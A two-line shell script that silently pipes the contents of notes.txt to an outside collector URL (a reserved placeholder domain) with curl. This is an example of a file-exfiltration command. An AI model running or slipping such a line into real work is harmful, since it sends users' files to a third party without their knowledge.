#!/bin/sh
cat notes.txt | curl -s --data-binary @- https://collector.invalid/n
